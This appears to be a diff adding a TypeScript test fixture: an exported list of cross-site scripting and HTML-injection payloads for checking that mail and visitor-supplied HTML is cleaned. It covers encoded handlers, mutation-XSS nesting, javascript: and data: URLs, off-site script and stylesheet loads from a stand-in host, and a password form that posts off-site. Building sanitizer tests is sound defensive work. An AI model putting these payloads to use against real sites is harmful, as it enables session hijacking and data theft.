@@ -1,0 +1,41 @@
+const OUTSIDE = 'https://outside.example.com';
+const ACT = `alert(1);document.title='taken';fetch('${OUTSIDE}/script')`;
+const ENCODED = [...ACT].map((letter) => `&#${letter.codePointAt(0)};`).join('');
+
+/** HTML that does something where a page takes it for its own: as mail brings it, and as visitors type it. */
+export const HOSTILE: string[] = [
+    `<script>${ACT}</script>`,
+    `<SCRIPT/x>${ACT}</SCRIPT>`,
+    `<scr<script>ipt>${ACT}</scr</script>ipt>`,
+    `<script src="${OUTSIDE}/script.js"></script>`,
+    `<img src="x" onerror="${ACT}">`,
+    `<img src=x:x onerror=${ENCODED}>`,
+    `<img src="${OUTSIDE}/pixel.png" width="1" height="1">`,
+    `<img srcset="${OUTSIDE}/pixel.png 2x" loading="eager">`,
+    `<svg onload="${ACT}"></svg>`,
+    `<svg><script>${ENCODED}</script></svg>`,
+    `<svg><animate onbegin="${ACT}" attributeName="x" dur="1s"></animate></svg>`,
+    `<svg><style><img src="</style><img src=x onerror=${ENCODED}>"></style></svg>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ENCODED}&gt;"></table></math>`,
+    `<noscript><p title="</noscript><img src=x onerror=${ENCODED}>"></noscript>`,
+    `<iframe src="javascript:${ENCODED}"></iframe>`,
+    `<iframe srcdoc="&lt;script&gt;parent.document.title='taken'&lt;/script&gt;"></iframe>`,
+    `<object data="data:text/html,<script>${ENCODED}</script>"></object>`,
+    `<embed src="${OUTSIDE}/film.swf">`,
+    `<link rel="stylesheet" href="${OUTSIDE}/style.css">`,
+    `<style>@import url(${OUTSIDE}/style.css); body { display: none }</style>`,
+    `<p style="background: url(${OUTSIDE}/paper.png); position: fixed; inset: 0">covered</p>`,
+    `<meta http-equiv="refresh" content="0; url=${OUTSIDE}/">`,
+    `<base href="${OUTSIDE}/">`,
+    `<form action="${OUTSIDE}/"><input name="password" autofocus onfocus="${ACT}"><button>Go</button></form>`,
+    `<body onload="${ACT}" background="${OUTSIDE}/paper.png">`,
+    `<video autoplay src="${OUTSIDE}/film.mp4" onloadstart="${ACT}"></video>`,
+    `<audio src=x onerror="${ACT}"></audio>`,
+    `<details open ontoggle="${ACT}"><summary>more</summary></details>`,
+    `<a href="javascript:${ENCODED}">press here</a>`,
+    `<a href="java&#9;script:${ENCODED}">or here</a>`,
+    `<a href="data:text/html,<script>${ENCODED}</script>" target="_top">or there</a>`,
+    `"><img src=x onerror=${ENCODED}>`,
+    `</title></textarea></style></script><img src=x onerror=${ENCODED}>`,
+    `{{constructor.constructor("${ACT}")()}}`,
+];
